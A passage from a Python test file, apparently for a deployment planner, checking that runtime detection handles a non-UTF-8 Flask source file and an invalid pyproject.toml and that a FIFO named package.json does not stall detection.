                        "app.py": b"from flask import Flask\napp = Flask(__name__)  # \xe9\n"})
    assert p.run_command == "gunicorn app:app --bind 0.0.0.0:${PORT:-8000}"
    assert any("pyproject.toml is not valid TOML" in w for w in p.warnings)


def test_a_fifo_in_the_checkout_does_not_block_detection(tmp_path):
    os.mkfifo(tmp_path / "package.json")
    write(tmp_path, {"index.html": ""})
    assert plan(tmp_path).runtime == "static"
